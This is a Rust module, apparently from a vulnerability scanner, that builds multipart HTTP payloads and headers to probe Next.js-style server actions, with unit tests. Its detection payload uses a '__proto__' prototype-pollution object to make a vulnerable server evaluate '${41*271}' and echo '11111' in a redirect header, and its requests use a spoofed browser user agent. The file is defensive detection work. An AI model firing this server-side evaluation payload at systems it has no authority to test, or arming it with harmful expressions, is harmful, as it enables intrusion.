//! Multipart server-action payloads.
//!
//! The detection payload asks a vulnerable server to evaluate `41*271` into
//! the action redirect, so `11111` showing up in `X-Action-Redirect` is proof
//! without side effects. The safe-check payload names an invalid action and
//! relies on the error page instead.

use rand::Rng;
use serde_json::json;

pub const EXPECTED_RESULT: &str = "11111";
const BOUNDARY_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadKind {
    Detection,
    SafeCheck,
}

#[derive(Debug, Clone)]
pub struct Payload {
    pub kind: PayloadKind,
    pub boundary: String,
    pub body: String,
}

fn boundary() -> String {
    let mut rng = rand::rng();
    let suffix: String = (0..16)
        .map(|_| BOUNDARY_ALPHABET[rng.random_range(0..BOUNDARY_ALPHABET.len())] as char)
        .collect();
    format!("----WebKitFormBoundary{suffix}")
}

impl Payload {
    pub fn new(kind: PayloadKind) -> Self {
        match kind {
            PayloadKind::Detection => Self::detection(),
            PayloadKind::SafeCheck => Self::safe_check(),
        }
    }

    pub fn detection() -> Self {
        let boundary = boundary();
        let action = json!({
            "0": {"__proto__": {"constructor": {"prototype": {"redirect": "/login?a=${41*271}"}}}}
        });
        let body = format!(
            "--{b}\r\n\
             Content-Disposition: form-data; name=\"1_$ACTION_ID\"\r\n\r\n\
             $$ACTION_1\r\n\
             --{b}\r\n\
             Content-Disposition: form-data; name=\"1_$ACTION_DATA\"\r\n\
             Content-Type: application/json\r\n\r\n\
             {action}\r\n\
             --{b}--\r\n",
            b = boundary
        );
        Self {
            kind: PayloadKind::Detection,
            boundary,
            body,
        }
    }

    pub fn safe_check() -> Self {
        let boundary = boundary();
        let body = format!(
            "--{b}\r\n\
             Content-Disposition: form-data; name=\"1_$ACTION_ID\"\r\n\r\n\
             $$ACTION_INVALID_TEST\r\n\
             --{b}--\r\n",
            b = boundary
        );
        Self {
            kind: PayloadKind::SafeCheck,
            boundary,
            body,
        }
    }

    pub fn content_type(&self) -> String {
        format!("multipart/form-data; boundary={}", self.boundary)
    }

    /// What to look for in the response.
    pub fn expected(&self) -> &'static str {
        match self.kind {
            PayloadKind::Detection => EXPECTED_RESULT,
            PayloadKind::SafeCheck => "error_digest",
        }
    }

    pub fn headers(&self) -> Vec<(&'static str, String)> {
        vec![
            ("Content-Type", self.content_type()),
            ("Accept", "text/x-component".to_string()),
            ("Next-Action", "$$ACTION_1".to_string()),
            ("Next-Router-State-Tree", "%5B%22%22%2C%7B%7D%5D".to_string()),
            ("RSC", "1".to_string()),
            ("User-Agent", USER_AGENT.to_string()),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_detection_body_is_well_formed() {
        let payload = Payload::detection();
        assert_eq!(payload.boundary.len(), "----WebKitFormBoundary".len() + 16);
        assert!(payload.body.starts_with(&format!("--{}\r\n", payload.boundary)));
        assert!(payload.body.ends_with(&format!("--{}--\r\n", payload.boundary)));
        assert!(payload.body.contains("name=\"1_$ACTION_DATA\""));
        assert!(payload.body.contains(r#""redirect":"/login?a=${41*271}""#));
        assert_eq!(payload.expected(), "11111");
    }

    #[test]
    fn test_safe_check_has_no_action_data() {
        let payload = Payload::safe_check();
        assert!(payload.body.contains("$$ACTION_INVALID_TEST"));
        assert!(!payload.body.contains("__proto__"));
        assert_eq!(
            payload.headers()[0],
            ("Content-Type", format!("multipart/form-data; boundary={}", payload.boundary))
        );
    }
}
